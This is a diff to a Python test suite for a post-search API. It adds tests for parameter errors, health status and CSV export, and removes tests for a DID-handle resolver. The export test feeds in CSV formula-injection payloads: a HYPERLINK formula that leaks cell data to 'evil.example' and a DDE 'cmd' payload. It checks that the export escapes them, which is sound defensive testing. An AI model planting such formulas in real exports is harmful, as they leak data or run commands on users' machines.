@@ -5,13 +5,9 @@ from __future__ import annotations
 
 import csv
 import dataclasses
-import http.server
 import io
-import threading
-import time
 import urllib.parse
 import wsgiref.util
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -19,8 +15,7 @@ import orjson
 import pytest
 
 from firehose.api import create_app
-from firehose.handles import HandleBook, PlcResolver, TTLCache, handle_from_did_document
-from tests.conftest import free_port, wait_until
+from tests.conftest import free_port
 from tests.unit.test_query import DAY1, DAY2, DAY3, bulk_posts, post, settings_for, us, write_identity, write_posts
 
 
@@ -123,7 +118,9 @@ def error_of(r: Response) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize(("query", "parameter"), [
-    ("start=2024-02-30", "since"),
+    ("start=2024-02-30", "start"),
+    ("since=2024-02-30", "since"),
+    ("q=" + "x" * 600, "q"),
     ("limit=0", "limit"),
     ("limit=51", "limit"),
     ("limit=99999999999999999999999999", "limit"),
@@ -226,6 +223,39 @@ def test_export_csv(app: Any) -> None:
     assert get(app, "/export", cursor="x").status == 400
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_export_neutralises_formula_cells_unless_raw(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    write_posts(data, [post(text, DAY1, seconds=i, created_at="=cmd|' /C calc'!A0") for i, text in
+                       enumerate([*FORMULAS, "plain text", "a = b + c"])])
+    app = create_app(settings_for(data))
+    rows = list(csv.DictReader(io.StringIO(get(app, "/export", sort="oldest").body.decode(), newline="")))
+    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain text", "a = b + c"]
+    assert {r["created_at"] for r in rows} == {"'=cmd|' /C calc'!A0"}  # every text column, not only text
+    raw = list(csv.DictReader(io.StringIO(get(app, "/export", sort="oldest", raw="true").body.decode(), newline="")))
+    assert [r["text"] for r in raw] == [*FORMULAS, "plain text", "a = b + c"]
+    assert get(app, "/search", raw="true").status == 400  # raw is an /export parameter
+
+
+@pytest.mark.parametrize(("query", "parameter"), [
+    ("start=notadate", "start"), ("since=notadate", "since"), ("end=2024-13-01", "end"), ("until=x", "until"),
+    ("start=2024-05-02&end=2024-05-01", "end"), ("since=2024-05-02&until=2024-05-01", "until"),
+    ("username=not%20a%20handle", "username"), ("author=not%20a%20handle", "author"),
+    ("q=" + "%20".join(f"w{i}" for i in range(40)), "q"), ("text=" + "%20".join(f"w{i}" for i in range(40)), "text"),
+])
+def test_errors_name_the_parameter_the_client_sent(app: Any, query: str, parameter: str) -> None:
+    for path in ("/search", "/export"):
+        r = call(app, path, query)
+        assert r.status == 400 and error_of(r)["parameter"] == parameter, (path, query, r.body)
+
+
+def test_health_fails_when_nothing_can_be_served(tmp_path: Path) -> None:
+    r = get(create_app(settings_for(tmp_path / "no-volume-here")), "/health")
+    assert r.status == 503 and r.json()["status"] == "fail" and "does not exist" in r.json()["reasons"][0]
+
+
 def test_export_cap_over_partitions(tmp_path: Path) -> None:
     data = tmp_path / "data"
     for i, day in enumerate((DAY1, DAY2, DAY3)):
@@ -271,124 +301,30 @@ def test_openapi_lists_every_route(app: Any) -> None:
 
 def test_health_stats_metrics(app: Any) -> None:
     health = get(app, "/health")
-    assert health.status == 503  # redis on port 1 is down and the fixture data is old
-    checks = health.json()["checks"]
+    assert health.status == 200  # serving the archive, but degraded: redis on port 1 is down, the data is old
+    body = health.json()
+    checks = body["checks"]
+    assert body["status"] == "degraded" and len(body["reasons"]) == 2
+    assert "Redis does not answer" in body["reasons"][0] and "newest event is" in body["reasons"][1]
     assert checks["redis"]["ok"] is False and checks["data_dir"]["ok"] is True
     assert checks["freshness"]["ok"] is False and checks["freshness"]["newest_event_age_s"] > 0
     stats = get(app, "/stats").json()
     assert stats["tables"]["posts"]["rows"] == 4 and stats["tables"]["identity"]["rows"] == 2
     assert get(app, "/stats", x=1).status == 400
     text = get(app, "/metrics").body.decode()
-    assert 'firehose_api_requests_total{endpoint="/health",status="503"} 1.0' in text
+    assert 'firehose_api_requests_total{endpoint="/health",status="200"} 1.0' in text
     assert "firehose_api_request_seconds_bucket" in text
 
 
-# ------------------------------------------------------------------------------------------ PLC directory
+# ------------------------------------------------------------------------------------------ identity
 
 
-class PlcHandler(http.server.BaseHTTPRequestHandler):
-    """A tiny PLC directory: /did:plc:known -> a document; /did:plc:slow -> late; anything else 404."""
-
-    hits: list[str] = []  # noqa: RUF012 (test server state)
-    release = threading.Event()  # /did:plc:slow answers only once a test sets it
-
-    def do_GET(self) -> None:
-        did = urllib.parse.unquote(self.path.lstrip("/"))
-        type(self).hits.append(did)
-        if did == "did:plc:slow":
-            type(self).release.wait(60)
-        if did in ("did:plc:known", "did:plc:slow"):
-            body = orjson.dumps({"id": did, "alsoKnownAs": ["https://x", f"at://{did[8:]}.plc.test"]})
-            self.send_response(200)
-            self.send_header("Content-Type", "application/json")
-            self.end_headers()
-            self.wfile.write(body)
-            return
-        if did == "did:plc:broken":
-            self.send_response(500)
-            self.end_headers()
-            return
-        self.send_response(404)
-        self.end_headers()
-
-    def log_message(self, *args: Any) -> None:
-        pass
-
-
-@pytest.fixture
-def plc_server() -> Iterator[str]:
-    PlcHandler.hits = []
-    PlcHandler.release = threading.Event()
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), PlcHandler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-    finally:
-        PlcHandler.release.set()
-        server.shutdown()
-        server.server_close()
-
-
-def book_with(plc_url: str, timeout: float = 0.5) -> HandleBook:
-    return HandleBook(lambda dids: {}, lambda handle: None, PlcResolver(plc_url, timeout), 100, 60.0)
-
-
-def test_plc_resolution_with_negative_cache(plc_server: str) -> None:
-    book = book_with(plc_server)
-    deadline = time.monotonic() + 2
-    assert book.handles(["did:plc:known", "did:plc:missing", "did:web:x.test"], plc_deadline=deadline) == {
-        "did:plc:known": "known.plc.test"}
-    assert sorted(PlcHandler.hits) == ["did:plc:known", "did:plc:missing"]
-    book.handles(["did:plc:known", "did:plc:missing"], plc_deadline=time.monotonic() + 2)
-    assert len(PlcHandler.hits) == 2  # hits and misses are cached
-    assert book.did_for("known.plc.test") == "did:plc:known"
-
-
-def test_plc_slow_answers_arrive_later(plc_server: str) -> None:
-    book = book_with(plc_server, timeout=60)
-    # the directory holds its answer until released: the search returns at its deadline without the handle
-    assert book.handles(["did:plc:slow"], plc_deadline=time.monotonic() + 0.1) == {}
-    PlcHandler.release.set()
-    # the late answer still fills the cache: a cache-only lookup (no PLC deadline) finds the handle
-    wait_until(lambda: book.handles(["did:plc:slow"], plc_deadline=None) == {"did:plc:slow": "slow.plc.test"},
-               what="the late PLC answer in the cache")
-    assert PlcHandler.hits == ["did:plc:slow"]
-
-
-def test_plc_down_never_fails_a_search(data_dir: Path) -> None:
+def test_dead_resolvers_never_fail_a_search(data_dir: Path) -> None:
     dead = f"http://127.0.0.1:{free_port()}"
-    app = create_app(settings_for(data_dir, plc_url=dead, plc_timeout=0.5))
+    app = create_app(settings_for(data_dir, plc_url=dead, resolve_handle_url=dead + "/xrpc",
+                                  dns_enabled=True, dns_nameservers=(f"127.0.0.1:{free_port()}",)))
     r = get(app, "/search", text="quotes")
-    assert r.status == 200 and r.json()["results"][0]["username"] == "did:plc:carol"
-    assert app.config["firehose.api"].book.plc.is_down()
-
-
-def test_plc_errors_open_the_breaker(plc_server: str) -> None:
-    book = book_with(plc_server)
-    assert book.handles(["did:plc:broken"], plc_deadline=time.monotonic() + 2) == {}
-    assert book.plc.is_down()
-    assert book.handles(["did:plc:known"], plc_deadline=time.monotonic() + 2) == {}
-    assert PlcHandler.hits == ["did:plc:broken"]
-
-
-def test_search_shows_plc_handles(data_dir: Path, plc_server: str) -> None:
-    rows = [post("from a plc account", DAY3, did="did:plc:known")]
-    write_posts(data_dir, rows, name="plc")
-    app = create_app(settings_for(data_dir, plc_url=plc_server))
-    r = get(app, "/search", text="plc account")
-    assert r.json()["results"][0]["username"] == "known.plc.test"
-
-
-def test_ttl_cache_and_did_documents() -> None:
-    now = [0.0]
-    cache = TTLCache(2, 10.0, clock=lambda: now[0])
-    cache.put("a", 1)
-    cache.put("b", 2)
-    cache.put("c", 3)
-    assert cache.get("a", None) is None and cache.get("c") == 3
-    now[0] = 11.0
-    assert cache.get("c", None) is None
-    assert handle_from_did_document({"alsoKnownAs": ["at://Bad Handle", "at://Good.Example"]}) == "good.example"
-    assert handle_from_did_document({"alsoKnownAs": "at://x.y"}) is None
-    assert handle_from_did_document([]) is None
+    assert r.status == 200 and r.json()["results"][0]["username"] == "did:plc:carol"  # the DID is shown
+    r = get(app, "/search", username="nobody.example.com")
+    assert r.status == 200 and r.json()["results"] == []
+    assert "could not be resolved" in r.json()["meta"]["warnings"][0]
